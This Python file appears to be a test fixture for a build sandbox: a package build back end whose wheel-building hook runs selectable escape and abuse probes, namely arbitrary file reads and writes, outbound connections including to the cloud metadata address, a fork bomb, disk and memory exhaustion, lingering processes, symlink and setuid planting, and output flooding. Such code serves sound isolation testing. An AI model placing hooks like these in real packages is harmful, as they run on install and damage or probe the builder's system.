"""A build back end that attacks. It needs no other package, so the build needs no network.

The test sets the constants ATTACK and WITH. The result is the constant SEEN of the package that it builds.
"""
import ctypes
import mmap
import os
import platform
import signal
import socket
import subprocess
import sys
import time
import zipfile

TARGET = "/build/part/packages"
# The test replaces these two lines.
ATTACK = ""
WITH = None


def tried(what):
    try:
        return True, repr(what())[:200]
    except BaseException as error:
        return False, repr(error)[:200]


def write(path):
    with open(path, "w") as file:
        file.write("x")


def through_proxy(address):
    with socket.create_connection(("127.0.0.1", 3128), 10) as proxy:
        proxy.sendall(b"CONNECT %s HTTP/1.1" % address.encode() + bytes([13, 10, 13, 10]))
        answer = proxy.recv(100)
    if b" 200 " not in answer:
        raise OSError(answer)
    return answer


def identity():
    with open("/proc/self/status") as status:
        fields = dict(line.strip().split(":", 1) for line in status)
    shown = {key: fields[key].strip() for key in ("CapPrm", "CapEff", "CapBnd", "NoNewPrivs", "Seccomp")}
    shown["ids"] = [os.getuid(), os.getgid(), os.getgroups()]
    shown["processes"] = len([name for name in os.listdir("/proc") if name.isdigit()])
    return shown


def many_processes():
    started = []
    try:
        while len(started) < 5000:
            pid = os.fork()
            if pid == 0:
                time.sleep(60)
                os._exit(0)
            started.append(pid)
    except OSError:
        pass
    for pid in started:
        os.kill(pid, signal.SIGKILL)
    return len(started)


def fill():
    with open("/build/work/big", "wb") as file:
        os.unlink("/build/work/big")
        while True:
            file.write(bytes(1 << 20))
            file.flush()
            time.sleep(0.002)


def fill_unseen():
    # Removed files that are only mapped.
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + 3 * [ctypes.c_int] + [ctypes.c_long]
    for number in range(10):
        path = f"/build/work/big{number}"
        file = os.open(path, os.O_CREAT | os.O_RDWR)
        os.unlink(path)
        os.posix_fallocate(file, 0, 100 << 20)
        libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_SHARED, file, 0)
        os.close(file)
    time.sleep(WITH)


def stay():
    quiet = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    return subprocess.Popen(["sleep", WITH], start_new_session=True, **quiet).pid


def hold():
    # Its parent ends, and it keeps the pipe that pip reads.
    return subprocess.check_call(["sh", "-c", "sleep %s & exit 0" % WITH])


def hold_without_first_thread():
    # Of the process that keeps the pipe, only the first thread ends.
    end_thread = {"x86_64": 60}.get(platform.machine(), 93)
    program = "import ctypes, threading, time; threading.Thread(target=time.sleep, args=[%s]).start(); ctypes.CDLL(None).syscall(%d, 0)"
    program = program % (WITH, end_thread)
    return subprocess.check_call(["sh", "-c", "%s -I -c '%s' & exit 0" % (sys.executable, program)])


def attack():
    if ATTACK == "write":
        return [tried(lambda path=path: write(path)) for path in WITH]
    if ATTACK == "read":
        return [tried(lambda path=path: os.listdir(path) if os.path.isdir(path) else open(path).read()) for path in WITH]
    if ATTACK == "connect":
        host, port = WITH.split(":")
        return [
            tried(lambda: socket.create_connection((host, int(port)), 5)),
            tried(lambda: through_proxy(WITH)),
            tried(lambda: through_proxy("169.254.169.254:80")),
            tried(lambda: socket.getaddrinfo("localhost.example", 80)),
        ]
    if ATTACK == "identity":
        return identity()
    if ATTACK == "processes":
        return many_processes()
    if ATTACK == "fill":
        return fill()
    if ATTACK == "fill_unseen":
        return fill_unseen()
    if ATTACK == "memory":
        return len([b"x" * (1 << 20) for _ in range(4096)])
    if ATTACK == "stay":
        return stay()
    if ATTACK == "hold":
        return hold()
    if ATTACK == "hold_without_first_thread":
        return hold_without_first_thread()
    if ATTACK == "link":
        return os.symlink(WITH, TARGET + "/link")
    if ATTACK == "beside":
        # Where the daemon writes a record of the build, and a file that never ends.
        os.symlink(WITH, os.path.dirname(TARGET) + "/environment.json")
        return os.mkfifo(os.path.dirname(TARGET) + "/pipe")
    if ATTACK == "socket":
        return socket.socket(socket.AF_UNIX).bind(TARGET + "/socket")
    if ATTACK == "setuid":
        write(TARGET + "/setuid")
        return os.chmod(TARGET + "/setuid", 0o6777)
    if ATTACK == "print":
        # What the back end itself prints is kept in pip's memory.
        try:
            output = open("/proc/%d/fd/1" % os.getppid(), "w")
        except OSError:
            output = sys.stdout
        while True:
            output.write("x" * 1000 + "\n")
    raise ValueError(ATTACK)


def build_wheel(folder, config_settings=None, metadata_directory=None):
    seen = attack()
    with zipfile.ZipFile(os.path.join(folder, "built-1-py3-none-any.whl"), "w") as wheel:
        wheel.writestr("built.py", "SEEN = %r\n" % (seen,))
        info = "built-1.dist-info/"
        wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\nName: built\nVersion: 1\n")
        wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(info + "RECORD", "")
    return "built-1-py3-none-any.whl"
